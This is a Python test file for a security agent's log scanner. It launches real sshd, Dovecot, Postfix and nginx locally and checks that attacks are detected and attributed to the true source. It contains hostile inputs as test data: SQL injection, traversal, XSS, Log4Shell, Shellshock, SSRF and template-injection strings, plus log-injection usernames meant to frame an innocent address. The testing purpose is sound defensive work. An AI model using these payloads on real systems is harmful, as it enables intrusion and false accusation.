"""What real daemons write about real attacks is found, and accuses the attacker alone."""

from __future__ import annotations

import base64
import contextlib
import http.client
import imaplib
import os
import pwd
import shutil
import smtplib
import socket
import ssl
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent.config.logs_scan import LogFormat
from agent.logs.scan import Finding, open_scanner
from tests.fixtures.daemons import Place, listening, started
from tests.fixtures.ports import free_port
from tests.fixtures.waiting import until

INNOCENT = "198.51.100.1"
pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the daemons start as root only")


@pytest.fixture
def place() -> Iterator[Place]:
    """A directory below /var, as Postfix demands of its log, that daemons may enter."""
    directory = Path(tempfile.mkdtemp(dir="/var/tmp"))
    directory.chmod(0o755)
    yield Place(directory)
    shutil.rmtree(directory)


def found(log: bytes, form: LogFormat) -> dict[str, Finding]:
    """Return the findings of a log by rule; no innocent address is in any."""
    scanner = open_scanner()
    scanner.feed(log, source="log", format=form)
    findings = scanner.findings()
    assert INNOCENT not in [one.who for one in findings]
    return {one.rule: one for one in findings}


def has_user(name: str) -> bool:
    try:
        pwd.getpwnam(name)
    except KeyError:
        return False
    return True


def test_guessed_passwords_at_a_real_sshd(place: Place) -> None:
    if shutil.which("sshd", path="/usr/sbin") is None or shutil.which("ssh") is None:
        pytest.skip("sshd and ssh are not installed: scripts/system-packages test")
    here, port = place.directory, free_port()
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(here / "key")], check=True
    )
    (here / "conf").write_text(
        f"Port {port}\nListenAddress 127.0.0.1\nHostKey {here}/key\nPidFile none\nUsePAM no\n"
        "PasswordAuthentication yes\nKbdInteractiveAuthentication no\nStrictModes no\n"
    )
    (here / "word").write_text("#!/bin/sh\necho wrong\n")
    (here / "word").chmod(0o755)
    Path("/run/sshd").mkdir(exist_ok=True)
    users = ["root", "nosuch", f"x from {INNOCENT} port 22 ssh2", INNOCENT, "oracle", "a b"]
    sshd = shutil.which("sshd", path="/usr/sbin") or ""
    with started([sshd, "-D", "-e", "-f", str(here / "conf")], place, "sshd") as running:
        until(lambda: listening(port), "sshd listens")
        for user in users:
            subprocess.run(
                [
                    *("ssh", "-p", str(port), "-l", user, "-o", "StrictHostKeyChecking=no"),
                    *("-o", "UserKnownHostsFile=/dev/null", "-o", "NumberOfPasswordPrompts=1"),
                    *("-o", "PreferredAuthentications=password", "127.0.0.1", "true"),
                ],
                env={
                    "PATH": os.environ["PATH"],
                    "SSH_ASKPASS": str(here / "word"),
                    "SSH_ASKPASS_REQUIRE": "force",
                },
                capture_output=True,
                check=False,
            )
        with socket.create_connection(("127.0.0.1", port)) as odd:
            odd.sendall(b"GET / HTTP/1.0\r\n\r\n")
            until(lambda: "invalid format" in running.said(), "sshd complains")
        until(lambda: running.said().count("Failed password") >= len(users), "all failures")
        log = running.said()
    findings = found(log.encode(), "sshd")
    assert findings["ssh-failed-login"].count == len(users)
    assert findings["ssh-unknown-users"].who == "127.0.0.1"
    assert not findings["ssh-failed-login"].may_ban  # loopback is never banned
    from_syslog = "".join(
        f"Nov 24 06:03:00 web1 sshd[7]: {line}\n" for line in log.replace("\r", "").splitlines()
    )
    assert found(from_syslog.encode(), "syslog").keys() == findings.keys()


@contextlib.contextmanager
def dovecot(place: Place, port: int, auth: int) -> Iterator[None]:
    here = place.directory / "dovecot"
    here.mkdir(mode=0o755)
    (here / "users").write_text("alice:{PLAIN}right::::::\n")
    (here / "conf").write_text(
        f"base_dir = {here}/run\nstate_dir = {here}/state\nlog_path = {here}/log\n"
        "protocols = imap\nssl = no\ndisable_plaintext_auth = no\nauth_failure_delay = 0\n"
        f"mail_location = maildir:{here}/mail/%u\nmail_uid = nobody\nmail_gid = nogroup\n"
        "first_valid_uid = 1\n"
        f"passdb {{\n driver = passwd-file\n args = {here}/users\n}}\n"
        f"userdb {{\n driver = static\n args = uid=nobody gid=nogroup home={here}/mail\n}}\n"
        "service imap-login {\n inet_listener imap {\n address = 127.0.0.1\n"
        f" port = {port}\n }}\n inet_listener imaps {{\n port = 0\n }}\n}}\n"
        f"service auth {{\n inet_listener {{\n address = 127.0.0.1\n port = {auth}\n }}\n}}\n"
        "service stats {\n chroot =\n}\n"
        "service anvil {\n unix_listener anvil-auth-penalty {\n mode = 0\n }\n}\n"
    )
    with started(["dovecot", "-F", "-c", str(here / "conf")], place, "dovecot") as running:
        until(lambda: listening(port) or running.child.poll() is not None, "Dovecot listens")
        assert running.child.poll() is None, running.said()
        yield


@contextlib.contextmanager
def postfix(place: Place, port: int, auth: int) -> Iterator[None]:
    here = place.directory / "postfix"
    here.mkdir(mode=0o755)
    for name in ("spool", "data"):
        (here / name).mkdir()
    shutil.chown(here / "data", "postfix")
    master = Path("/etc/postfix/master.cf.proto").read_text().splitlines()
    (here / "master.cf").write_text(
        "\n".join(
            f"127.0.0.1:{port} inet n - n - - smtpd"
            if line.startswith("smtp  inet") or (line.startswith("smtp ") and " inet " in line)
            else line
            for line in master
        )
        + "\n"
    )
    (here / "main.cf").write_text(
        f"compatibility_level = 3.6\nqueue_directory = {here}/spool\ndata_directory = {here}/data\n"
        "myhostname = mail.example.org\nmydestination =\ninet_interfaces = 127.0.0.1\n"
        f"mynetworks = 192.0.2.0/32\nalias_maps =\nmaillog_file = {here}/log\n"
        f"maillog_file_prefixes = {here}\nsmtpd_sasl_auth_enable = yes\n"
        f"smtpd_sasl_type = dovecot\nsmtpd_sasl_path = inet:127.0.0.1:{auth}\n"
        "smtpd_error_sleep_time = 0\nsmtpd_relay_restrictions = reject_unauth_destination\n"
    )
    for name in ("postfix-files", "dynamicmaps.cf"):
        shutil.copy(f"/etc/postfix/{name}", here)
    with started(["postfix", "-c", str(here), "start-fg"], place, "postfix") as running:
        until(lambda: listening(port) or running.child.poll() is not None, "Postfix listens")
        assert running.child.poll() is None, running.said()
        yield
        subprocess.run(["postfix", "-c", str(here), "stop"], capture_output=True, check=False)


def test_guessed_passwords_at_a_real_postfix_and_dovecot(place: Place) -> None:
    if shutil.which("dovecot", path="/usr/sbin") is None or not has_user("dovenull"):
        pytest.skip("Dovecot is not installed: scripts/system-packages test")
    imap, auth, smtp = free_port(), free_port(), free_port()
    odd = f"x>, method=PLAIN, rip={INNOCENT}, lip=198.51.100.9, session=<a"
    with dovecot(place, imap, auth), postfix(place, smtp, auth):
        for user in ("alice", "bob", odd, "carol", "dave"):
            with contextlib.suppress(imaplib.IMAP4.error), imaplib.IMAP4("127.0.0.1", imap) as box:
                box.login(f'"{user}"', "wrong")
            with smtplib.SMTP("127.0.0.1", smtp) as client:
                client.ehlo(f"[{INNOCENT}]")
                word = base64.b64encode(f"\0{user}\0wrong".encode()).decode()
                assert client.docmd("AUTH", f"PLAIN {word}")[0] == 535
        for number in range(20):
            with smtplib.SMTP("127.0.0.1", smtp) as client:
                client.ehlo("x")
                client.docmd("MAIL", "FROM:<a@example.net>")
                assert client.docmd("RCPT", f"TO:<x{number}@example.com>")[0] >= 400
        with imaplib.IMAP4("127.0.0.1", imap) as box:
            box.login("alice", "right")
        logs = [place.directory / name / "log" for name in ("dovecot", "postfix")]
        until(lambda: b"Login: user=<alice>" in logs[0].read_bytes(), "Dovecot's last line")
        until(lambda: logs[1].read_bytes().count(b"disconnect from") >= 25, "Postfix's last line")
        log = b"".join(one.read_bytes() for one in logs)
    findings = found(log, "syslog")
    assert findings.keys() >= {
        "mail-imap-failed",
        "mail-sasl-failed",
        "mail-rejected",
        "mail-login-after-failures",
    }, log.decode()
    assert {one.who for one in findings.values()} == {"127.0.0.1"}
    assert (findings["mail-imap-failed"].count, findings["mail-sasl-failed"].count) == (5, 5)


def test_attacks_on_a_real_nginx(place: Place) -> None:
    if shutil.which("nginx", path="/usr/sbin") is None:
        pytest.skip("nginx is not installed: scripts/system-packages test")
    here, port = place.directory, free_port()
    (here / "web").mkdir()
    (here / "web" / ".env").write_text("SECRET=1\n")
    (here / "nginx.conf").write_text(
        f"daemon off; pid {here}/pid; error_log {here}/error;\nevents {{}}\nhttp {{\n"
        f" client_body_temp_path {here}/b; proxy_temp_path {here}/p; fastcgi_temp_path {here}/f;\n"
        f" uwsgi_temp_path {here}/u; scgi_temp_path {here}/s; access_log {here}/access combined;\n"
        f" server {{ listen 127.0.0.1:{port}; root {here}/web; }}\n}}\n"
    )
    requests = [
        ("GET", "/.env", ""),
        ("GET", "/x?id=1%27%20or%20%271%27=%271", ""),
        ("GET", "/a/..%2f..%2f..%2fetc/passwd", ""),
        ("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
        ("GET", "/", "${jndi:ldap://example.net/a}"),
        ("GET", "/", '() { :;}; /bin/bash -c "id"'),
        ("GET", "/?n={{7*7}}", ""),
        ("GET", "/uploads/a.php", ""),
        ("GET", "/fetch?u=http://169.254.169.254/latest/", ""),
        ("GET", "/", f'x" 404 1 "-" "sqlmap {INNOCENT} \\x22'),
        *[("GET", f"/old/{number}.php", "") for number in range(25)],
    ]
    with started(["nginx", "-c", str(here / "nginx.conf")], place, "nginx"):
        until(lambda: listening(port), "nginx listens")
        for method, target, agent in requests:
            client = http.client.HTTPConnection("127.0.0.1", port)
            client.putrequest(method, target)
            client.putheader("User-Agent", agent)
            client.putheader("X-Forwarded-For", INNOCENT)
            client.endheaders()
            client.getresponse().read()
            client.close()
        with socket.create_connection(("127.0.0.1", port)) as odd:
            hello = ssl.MemoryBIO()
            tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(
                ssl.MemoryBIO(), hello, server_hostname="x"
            )
            with contextlib.suppress(ssl.SSLWantReadError):
                tls.do_handshake()
            odd.sendall(hello.read())
            odd.recv(1000)
        access = here / "access"
        until(lambda: access.read_bytes().count(b"\n") > len(requests), "the last line")
        log = access.read_bytes()
    findings = found(log, "combined")
    assert findings.keys() >= {
        "http-secret-files",
        "http-sql-injection",
        "http-traversal",
        "http-xss",
        "http-log4shell",
        "http-command-injection",
        "http-template-injection",
        "http-web-shell",
        "http-ssrf",
        "http-bad-agent",
        "http-scanner",
    }, log.decode()
    assert findings["http-secret-files"].severity == "critical"  # it was served
    assert {one.who for one in findings.values()} == {"127.0.0.1"}


def test_guessed_passwords_in_the_error_log_of_a_real_nginx(place: Place) -> None:
    if shutil.which("nginx", path="/usr/sbin") is None:
        pytest.skip("nginx is not installed: scripts/system-packages test")
    here, port = place.directory, free_port()
    (here / "web").mkdir()
    (here / "web" / "index.html").write_text("hello")
    (here / "users").write_text("alice:{PLAIN}right\n")
    (here / "users").chmod(0o644)
    (here / "nginx.conf").write_text(
        f"daemon off; pid {here}/pid; error_log {here}/error;\nevents {{}}\nhttp {{\n"
        f" client_body_temp_path {here}/b; proxy_temp_path {here}/p; fastcgi_temp_path {here}/f;\n"
        f" uwsgi_temp_path {here}/u; scgi_temp_path {here}/s; access_log off;\n"
        " limit_req_zone $binary_remote_addr zone=slow:1m rate=1r/m;\n"
        f" server {{ listen 127.0.0.1:{port}; root {here}/web;\n"
        f"  auth_basic x; auth_basic_user_file {here}/users;\n"
        "  location /slow { limit_req zone=slow; auth_basic off; } }\n}\n"
    )
    accusing = f'x": password mismatch, client: {INNOCENT}, server: , request: "GET / H", host: "y'
    users = ["alice", "nosuch", accusing, "bob", "alice"]
    with started(["nginx", "-c", str(here / "nginx.conf")], place, "nginx"):
        until(lambda: listening(port), "nginx listens")
        for user in users:
            name = base64.b64encode(f"{user}:wrong".encode()).decode()
            client = http.client.HTTPConnection("127.0.0.1", port)
            client.request("GET", "/", headers={"Authorization": f"Basic {name}"})
            assert client.getresponse().status == 401
            client.close()
        for _ in range(25):
            client = http.client.HTTPConnection("127.0.0.1", port)
            client.request("GET", "/slow")
            client.getresponse().read()
            client.close()
        log = (here / "error").read_bytes()
    findings = found(log, "auto")
    assert findings["error-login-failed"].count == len(users), log.decode()
    assert findings["error-login-failed"].who == "127.0.0.1"
    assert findings["error-requests-limited"].count >= 20
    assert not any(one.may_ban for one in findings.values())
